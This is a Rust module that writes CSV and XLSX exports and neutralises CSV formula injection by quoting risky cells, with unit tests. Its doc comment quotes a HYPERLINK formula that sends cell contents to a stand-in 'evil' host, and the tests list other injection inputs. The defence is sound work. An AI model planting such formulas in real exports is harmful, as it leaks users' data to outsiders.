//! The one writer of every spreadsheet the server hands out (CSV and XLSX exports). Each cell goes
//! through [`neutralise`]: text that a spreadsheet program would run as a formula (it starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return; OWASP "CSV injection") gets a leading `'`, so a
//! candidate named `=HYPERLINK("http://evil/?"&A1,"点击")` is shown as that text, never run.
//! Plain numbers (`-5`, `12.5`) cannot be formulas and are written as they are.

use std::borrow::Cow;
use std::io::Write as _;

pub use crate::upload::XLSX;

/// Whether `s` is a plain decimal number such as `-5` or `12.50`.
fn plain_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// A cell's text as it may be written into a spreadsheet.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    match s.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !plain_number(s) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// A UTF-8 CSV (with a byte-order mark, which Excel needs to read UTF-8) of the rows.
pub fn csv(rows: &[Vec<String>]) -> Result<Vec<u8>, std::io::Error> {
    let mut w =
        csv::WriterBuilder::new().quote_style(csv::QuoteStyle::Necessary).from_writer(vec![0xEF, 0xBB, 0xBF]);
    for r in rows {
        w.write_record(r.iter().map(|c| neutralise(c).into_owned())).map_err(std::io::Error::other)?;
    }
    w.into_inner().map_err(|e| std::io::Error::other(e.to_string()))
}

fn xml_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            // Characters XML 1.0 cannot hold at all.
            c if (c as u32) < 0x20 && !matches!(c, '\t' | '\n' | '\r') => out.push('\u{FFFD}'),
            c => out.push(c),
        }
    }
    out
}

/// A one-sheet XLSX (inline strings) of the rows, named `sheet_name`.
pub fn xlsx(sheet_name: &str, rows: &[Vec<String>]) -> Result<Vec<u8>, std::io::Error> {
    let mut sheet = String::from(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#,
    );
    for (r, cells) in rows.iter().enumerate() {
        sheet.push_str(&format!(r#"<row r="{}">"#, r + 1));
        for v in cells {
            sheet.push_str(&format!(
                r#"<c t="inlineStr"><is><t xml:space="preserve">{}</t></is></c>"#,
                xml_escape(&neutralise(v))
            ));
        }
        sheet.push_str("</row>");
    }
    sheet.push_str("</sheetData></worksheet>");
    let workbook = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{}" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        xml_escape(sheet_name)
    );
    let parts = [
        ("[Content_Types].xml", r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#.to_owned()),
        ("_rels/.rels", r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#.to_owned()),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#.to_owned()),
        ("xl/worksheets/sheet1.xml", sheet),
    ];
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut out);
        for (name, content) in parts {
            z.start_file(name, zip::write::SimpleFileOptions::default()).map_err(std::io::Error::other)?;
            z.write_all(content.as_bytes())?;
        }
        z.finish().map_err(std::io::Error::other)?;
    }
    Ok(out.into_inner())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for evil in
            ["=HYPERLINK(\"http://x\",\"a\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-1e5"]
        {
            assert_eq!(neutralise(evil), format!("'{evil}"), "{evil:?}");
        }
        for fine in ["王小明", "-5", "12.50", "0", "-0.5", "S000050000001264000001", "a=b", ""] {
            assert_eq!(neutralise(fine), fine, "{fine:?}");
        }
    }

    #[test]
    fn every_csv_cell_goes_through_the_neutraliser() {
        let bytes = csv(&[vec!["name".into()], vec!["=HYPERLINK(\"http://x\")".into()]]).expect("csv");
        let text = String::from_utf8(bytes).expect("utf-8");
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(!text.contains("\n=") && !text.contains("\n\"="), "{text}");
    }

    #[test]
    fn xlsx_cells_are_neutralised_and_escaped() {
        let bytes = xlsx("表", &[vec!["=1+1".into(), "<b>&\u{1}".into()]]).expect("xlsx");
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
        let mut sheet = String::new();
        std::io::Read::read_to_string(
            &mut zip.by_name("xl/worksheets/sheet1.xml").expect("sheet"),
            &mut sheet,
        )
        .expect("read");
        assert!(sheet.contains(">'=1+1<"), "{sheet}");
        assert!(sheet.contains("&lt;b&gt;&amp;\u{FFFD}"), "{sheet}");
    }
}
